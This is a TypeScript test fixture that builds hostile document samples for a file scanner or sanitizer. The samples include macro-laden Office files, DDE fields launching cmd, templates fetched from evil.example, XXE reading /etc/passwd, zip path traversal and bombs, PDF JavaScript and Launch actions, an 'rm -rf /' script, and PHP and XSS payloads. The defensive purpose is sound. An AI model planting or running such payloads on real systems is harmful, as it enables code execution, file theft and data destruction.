import { excel, powerPoint, word } from './compound.ts'
import { external, iWork, openDocument, openXml } from './office.ts'
import { objectStream, packed, pdf } from './pdf.ts'
import { bitmap } from './pictures.ts'
import { sample, type Sample } from './sample.ts'
import { zip, type ZipPart } from './zip.ts'

const PACKED = Buffer.from('..\x01Ole10Native..', 'utf16le')
const part = (name: string, content: string | Buffer = 'x', more: Partial<ZipPart> = {}): ZipPart => ({
  name,
  content,
  ...more,
})
const field = (instruction: string) => `<w:document><w:instrText>${instruction}</w:instrText></w:document>`
const BILLION = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>`
const WORD = 'application/vnd.ms-word.document.macroEnabled.main+xml'

export const hostileDocuments = (): Sample[] => [
  ...officeFiles(),
  ...zipTricks(),
  ...oldOfficeFiles(),
  ...pdfs(),
  ...texts(),
]

const officeFiles = (): Sample[] => [
  sample('a letter with macros', 'a.docx', openXml('docx', { more: [part('word/vbaProject.bin')] })),
  sample('a table with macros', 'a.xlsx', openXml('xlsx', { more: [part('xl/vbaProject.bin')] })),
  sample('slides with macros', 'a.pptx', openXml('pptx', { more: [part('ppt/VBAPROJECT.BIN')] })),
  sample('a letter of a kind with macros', 'a.docx', openXml('docx', { mainType: WORD })),
  sample(
    'a letter that links its macros',
    'a.docx',
    openXml('docx', { more: [part('word/_rels/a.rels', external('vbaProject', 'a.bin'))] }),
  ),
  sample('a table with macros of Excel 4', 'a.xlsx', openXml('xlsx', { more: [part('xl/macrosheets/sheet1.xml')] })),
  sample('a letter with ActiveX', 'a.docx', openXml('docx', { more: [part('word/activeX/activeX1.bin')] })),
  sample(
    'a letter that fetches its template',
    'a.docx',
    openXml('docx', {
      more: [part('word/_rels/settings.xml.rels', external('attachedTemplate', 'https://evil.example/a.dotm'))],
    }),
  ),
  sample(
    'a letter that fetches an object',
    'a.docx',
    openXml('docx', { more: [part('word/_rels/document.xml.rels', external('oleObject', 'https://evil.example/a'))] }),
  ),
  sample('a letter that starts a program', 'a.docx', openXml('docx', { body: field('DDEAUTO "cmd" "/k calc"') })),
  sample(
    'a letter that starts one in pieces',
    'a.docx',
    openXml('docx', { body: '<w:d><w:instrText>DDE</w:instrText><w:instrText>AUTO "cmd"</w:instrText></w:d>' }),
  ),
  sample(
    'a table that starts a program',
    'a.xlsx',
    openXml('xlsx', {
      more: [part('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>')],
    }),
  ),
  sample(
    'a letter with a packed file',
    'a.docx',
    openXml('docx', { more: [part('word/embeddings/oleObject1.bin', PACKED)] }),
  ),
  sample('a letter with a program', 'a.docx', openXml('docx', { more: [part('word/media/setup.exe', 'MZ')] })),
  sample('a letter that explodes by its entities', 'a.docx', openXml('docx', { body: BILLION })),
  sample(
    'a letter that names a file',
    'a.docx',
    openXml('docx', { more: [part('docProps/core.xml', '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>')] }),
  ),
  sample('an open document with macros', 'a.odt', openDocument('odt', [part('Basic/Standard/Module1.xml')])),
  sample('an open document with a script', 'a.ods', openDocument('ods', [part('Scripts/python/a.py')])),
  sample(
    'an open document that calls a macro',
    'a.odp',
    openDocument('odp', [part('settings.xml', '<a href="vnd.sun.star.script:x"/>')]),
  ),
  sample('an open document that is locked', 'a.odt', openDocument('odt', [], '<manifest:encryption-data/>')),
  sample('an open document that explodes', 'a.odt', openDocument('odt', [part('meta.xml', BILLION)])),
  sample('pages with a program', 'a.pages', iWork('pages', [part('Data/run.cmd')])),
]

const zipTricks = (): Sample[] => {
  const inside = (...more: ZipPart[]) => openXml('docx', { more })
  return [
    sample('a name that leaves the zip', 'a.docx', inside(part('../../../etc/cron.d/a'))),
    sample('a name that leaves it in the middle', 'a.docx', inside(part('word/../../a'))),
    sample('a name from the root', 'a.docx', inside(part('/etc/passwd'))),
    sample('a name with a drive', 'a.docx', inside(part('C:/a'))),
    sample('a name with backslashes', 'a.docx', inside(part('..\\..\\a'))),
    sample(
      'a link out of the zip',
      'a.docx',
      inside(part('word/a', '/etc/passwd', { externalAttributes: (0o120777 << 16) >>> 0 })),
    ),
    sample('a locked entry', 'a.docx', inside(part('word/a', 'x', { flags: 0x801 }))),
    sample('an entry packed in a rare way', 'a.docx', inside(part('word/a', 'x', { method: 99 }))),
    sample('two entries of one name', 'a.docx', inside(part('word/a'), part('WORD/A'))),
    sample('an entry of two names', 'a.docx', inside(part('word/a.png', 'x', { localName: 'word/a.exe' }))),
    sample('an entry that explodes', 'a.docx', inside(part('word/a.xml', Buffer.alloc(30_000_000)))),
    sample('an entry of 40 MB', 'a.xlsx', openXml('xlsx', { more: [part('xl/a.bin', Buffer.alloc(40_000_000))] })),
    sample(
      'many entries that explode',
      'a.docx',
      inside(...Array.from({ length: 120 }, (_, i) => part(`word/${i}.xml`, Buffer.alloc(1_000_000)))),
    ),
    sample(
      'an entry that lies about its length',
      'a.docx',
      inside(part('word/a.xml', Buffer.alloc(5_000_000), { declaredSize: 10 })),
    ),
    sample(
      'twenty thousand entries',
      'a.docx',
      inside(...Array.from({ length: 20_000 }, (_, i) => part(`word/${i}`, ''))),
    ),
    sample(
      'an open document that explodes by its pictures',
      'a.odt',
      openDocument('odt', [part('Pictures/a', Buffer.alloc(33_000_000))]),
    ),
    sample('pages that explode', 'a.pages', iWork('pages', [part('Data/a', Buffer.alloc(20_000_000))])),
    sample('a zip of nothing', 'a.docx', zip([])),
  ]
}

function oldOfficeFiles(): Sample[] {
  const vbaInfo = Buffer.concat([Buffer.alloc(4_200), Buffer.from('1f00ff0314000000020000040c000000', 'hex')])
  const circle = word()
  // The directory's last sector leads back to its first.
  const first = circle.readUInt32LE(48)
  const table = circle.readUInt32LE(76)
  circle.writeUInt32LE(first, 512 * (table + 1) + first * 4)
  return [
    sample('an old letter with macros', 'a.doc', word([{ name: 'Macros' }, { name: 'VBA' }])),
    sample('an old table with macros', 'a.xls', excel(0, [{ name: '_VBA_PROJECT_CUR' }])),
    sample('an old table with macros of Excel 4', 'a.xls', excel(1)),
    sample('old slides with macros', 'a.ppt', powerPoint(vbaInfo)),
    sample(
      'an old letter with a packed file',
      'a.doc',
      word([{ name: '\u0001Ole10Native', content: Buffer.from('MZ') }]),
    ),
    sample('a locked letter as an old one', 'a.doc', word([{ name: 'EncryptedPackage', content: Buffer.alloc(9) }])),
    sample('an old letter that goes in a circle', 'a.doc', circle),
    sample('an old letter of a signature alone', 'a.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
  ]
}

const pdfs = (): Sample[] => [
  sample('a PDF with a script', 'a.pdf', pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })),
  sample('a PDF that hides its script', 'a.pdf', pdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' })),
  sample('a PDF with a packed script', 'a.pdf', pdf({ more: [objectStream('<< /S /JavaScript /JS (x) >>')] })),
  sample('a PDF with a packed and hidden script', 'a.pdf', pdf({ more: [objectStream('<< /S /#4aavaScript >>')] })),
  sample('a PDF that starts a program', 'a.pdf', pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
  sample('a PDF with a film of Flash', 'a.pdf', pdf({ more: ['<< /Subtype /RichMedia >>'] })),
  sample('a PDF that explodes', 'a.pdf', pdf({ more: [packed('/Type /ObjStm', Buffer.alloc(60_000_000))] })),
  sample('a PDF with damaged objects', 'a.pdf', pdf({ more: ['<< /Type /ObjStm >>\nstream\nnot packed\nendstream'] })),
  sample('a PDF without an end', 'a.pdf', Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n')),
]

const texts = (): Sample[] => [
  sample('rich text with an object', 'a.rtf', Buffer.from('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}')),
  sample('rich text that updates itself', 'a.rtf', Buffer.from('{\\rtf1{\\object\\objautlink\\objupdate}}')),
  sample(
    'rich text that starts a program',
    'a.rtf',
    Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}}}'),
  ),
  sample('rich text that fetches its template', 'a.rtf', Buffer.from('{\\rtf1{\\*\\template https://evil.example/a}}')),
  sample('rich text with bytes', 'a.rtf', Buffer.from('{\\rtf1\\bin5 \0\0\0\0\0}')),
  sample('a text with a NUL', 'a.txt', Buffer.from('a\0b')),
  sample('a program as text', 'a.txt', Buffer.from('MZ\x90\0\x03')),
  sample('a shell script as text', 'a.txt', Buffer.from('#!/bin/sh\nrm -rf /\n')),
  sample('a web page as text', 'a.txt', Buffer.from('<!DOCTYPE html><script>alert(1)</script>')),
  sample('PHP as text', 'a.txt', Buffer.from('<?php system("id");')),
  sample('an SVG as text', 'a.txt', Buffer.from('<?xml version="1.0"?>\n<svg onload="alert(1)"/>')),
  sample('a picture as text', 'a.txt', bitmap()),
  sample('a page in UTF-16 as text', 'a.txt', Buffer.from('\ufeff<html>', 'utf16le')),
]
